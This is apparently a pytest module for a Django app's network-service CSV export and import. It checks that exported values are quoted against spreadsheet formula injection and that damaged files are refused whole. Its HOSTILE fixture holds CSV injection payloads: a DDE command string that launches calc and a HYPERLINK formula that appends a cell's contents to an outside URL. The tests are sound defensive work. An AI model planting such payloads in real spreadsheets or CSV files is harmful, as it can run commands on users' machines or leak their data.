"""The network CSV: exports never carry a formula, imports take a whole file or nothing, never crash."""

from __future__ import annotations

import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse
from django.utils import translation
from hypothesis import HealthCheck, event, given, settings

from strom.audit.models import AuditEntry
from strom.core.spreadsheets import restore
from strom.core.tests.mutations import mutated, records_in
from strom.network.csvio import COLUMNS, ImportFailed, export_text, import_csv
from strom.network.models import NetworkService
from strom.network.tests.factories import make_service
from tests.personas import Cast

pytestmark = pytest.mark.django_db

HOSTILE = {
    "name": '=HYPERLINK("https://example.org/?"&B2,"Open")',
    "description": "+cmd|' /C calc'!A0",
    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
    "opening_hours": "-2+3",
    "phone": "+371 2000 0000",
}


@pytest.fixture(autouse=True)
def english() -> Iterator[None]:
    with translation.override("en"):
        yield


def hostile_service(cast: Cast) -> NetworkService:
    return make_service(cast.org_a, **HOSTILE, countries=["LV"], municipalities=[cast.riga])


def guarded(text: str) -> None:
    """Every value of the CSV `text` is safe to open in a spreadsheet program, and the hostile ones
    are there after a single quote."""
    values = {value for record in records_in(text.encode()) for value in record.values()}
    assert not [value for value in values if value and value[0] in "=+-@\t\r"]
    for value in HOSTILE.values():
        assert "'" + value in values, value


def test_the_export_writes_hostile_text_after_a_quote_and_numbers_as_numbers(cast: Cast) -> None:
    hostile_service(cast)
    text = export_text(NetworkService.objects.all())
    guarded(text)
    assert ",10,3," in text  # capacity and free places


def test_the_download_is_guarded(cast: Cast, as_persona: Any) -> None:
    hostile_service(cast)
    response = as_persona("caseworker_b").get(reverse("network:export"))
    assert response.status_code == 200
    guarded(response.content.decode())


def test_the_command_line_export_is_guarded(cast: Cast, tmp_path: Path) -> None:
    hostile_service(cast)
    out = tmp_path / "network.csv"
    call_command("network", "export", "--out", str(out), stderr=io.StringIO())
    guarded(out.read_text(encoding="utf-8"))


def test_hostile_text_survives_the_round_trip_exactly(cast: Cast, tmp_path: Path) -> None:
    hostile_service(cast)
    out = tmp_path / "network.csv"
    call_command("network", "export", "--out", str(out), stderr=io.StringIO())
    NetworkService.objects.all().delete()
    call_command("network", "import", str(out), stdout=io.StringIO())
    copy = NetworkService.objects.get()
    for field, value in HOSTILE.items():
        assert getattr(copy, field) == value, field
    assert list(copy.municipalities.all()) == [cast.riga]


# -- files that used to half-import or crash -------------------------------------------------------

HEADER = "organisation,organisation_country,service_type,name,description,capacity"
GOOD_ROW = "Riga Social Service,LV,SafeAccommodation,Good shelter,Rīgas patversme,5"


def refused_by_the_command(tmp_path: Path, data: bytes) -> str:
    """Run `strom network import` on `data`: it must fail, print why, and change nothing."""
    path = tmp_path / "network.csv"
    path.write_bytes(data)
    audit = AuditEntry.objects.count()
    errors = io.StringIO()
    with pytest.raises(CommandError, match=r"Nothing was imported: \d+ errors"):
        call_command("network", "import", str(path), stdout=io.StringIO(), stderr=errors)
    assert not NetworkService.objects.exists()
    assert AuditEntry.objects.count() == audit
    return errors.getvalue()


def test_a_file_ending_inside_an_open_quote_imports_nothing(cast: Cast, tmp_path: Path) -> None:
    data = f'{HEADER}\n{GOOD_ROW}\nRiga Social Service,LV,SafeAccommodation,"NEWSVC_TRUNC,desc,,,\n'.encode()
    said = refused_by_the_command(tmp_path, data)
    assert "row 3: The file ends inside a quoted value" in said


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (f"{HEADER}\n{GOOD_ROW}\n".encode("latin-1", "replace").replace(b"?", b"\xe7"), "not UTF-8 text"),
        (f"{HEADER}\n{GOOD_ROW}\n".encode("utf-16-le"), "NUL character"),
        (
            f"{HEADER}\n{GOOD_ROW}\n".encode() + b"Riga Social Service,LV,SafeAccommodation,Nul\x00l,,1\n",
            "NUL",
        ),
        (
            f"{HEADER}\n{GOOD_ROW}\nRiga Social Service,LV,SafeAccommodation,Big,{'x' * 200_000},1\n"
            "".encode(),
            "longer",
        ),
        (f"{HEADER}\nRiga Social Service,LV,SafeAccommodation,Wide,,\uff15\n".encode(), "digits 0-9"),
        (
            f"{HEADER}\nRiga Social Service,LV,SafeAccommodation,Big,,99999999999\n".encode(),
            "from 0 to 1000000",
        ),
        (f"{HEADER},colour\n{GOOD_ROW},red\n".encode(), "not a column of the network file"),
        (f"{HEADER}\n{GOOD_ROW}\n{GOOD_ROW},6\n".encode(), "has 7 values; the header has 6"),
        (
            b"organisation,organisation_country,service_type,name,phone\n"
            b"Riga Social Service,LV,SafeAccommodation,Long phone," + b"1" * 41 + b"\n",
            "At most 40 characters.",  # a message, not a database error
        ),
    ],
)
def test_a_damaged_file_is_refused_whole_with_a_reason(
    cast: Cast, tmp_path: Path, data: bytes, why: str
) -> None:
    said = refused_by_the_command(tmp_path, data)
    assert why in said
    assert "Traceback" not in said


def test_utf16_with_its_byte_order_mark_is_read(cast: Cast) -> None:
    assert import_csv(f"{HEADER}\n{GOOD_ROW}\n".encode("utf-16")) == (1, 0)
    assert NetworkService.objects.get().description == "Rīgas patversme"


# -- property: any damage, never a crash, never half an import --------------------------------------


def snapshot() -> tuple[Any, ...]:
    services = sorted(
        tuple(str(v) for v in row)
        for row in NetworkService.objects.values_list(
            *[f.attname for f in NetworkService._meta.concrete_fields]
        )
    )
    coverage = sorted(
        NetworkService.municipalities.through.objects.values_list("networkservice_id", "municipality_id")
    )
    return services, coverage, AuditEntry.objects.count()


def valid_file() -> bytes:
    rows = [
        ",".join(COLUMNS[:4]) + ",description,phone,municipalities,capacity,free_places,open_247,hours",
        'Riga Social Service,LV,SafeAccommodation,Rīga shelter,"Beds, food",+371 2000 0000,LV:RIX,10,3,'
        "yes,Mon 09:00-17:00",
        "Vilnius Support Centre,LT,Legal,Vilnius desk,'=SUM(1),,LT:VNO,,,no,",
    ]
    return ("\n".join(rows) + "\n").encode()


@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(data=mutated(valid_file()))
def test_any_damaged_file_is_imported_whole_or_refused_whole(cast: Cast, data: bytes) -> None:
    before = snapshot()
    try:
        created, updated = import_csv(data)
    except ImportFailed as exc:
        refused = exc.errors
    else:
        refused = []
    event("refused" if refused else "imported")
    if refused:
        assert snapshot() == before
        return
    records = records_in(data)
    assert created + updated == len(records)
    for record in records:
        name = " ".join(restore(record["name"]).split())
        assert NetworkService.objects.filter(
            name__iexact=name, organisation__name__iexact=record["organisation"].strip()
        ).exists()


def test_the_file_the_property_test_damages_is_valid(cast: Cast) -> None:
    assert import_csv(valid_file()) == (2, 0)
    assert NetworkService.objects.get(name="Vilnius desk").description == "=SUM(1)"
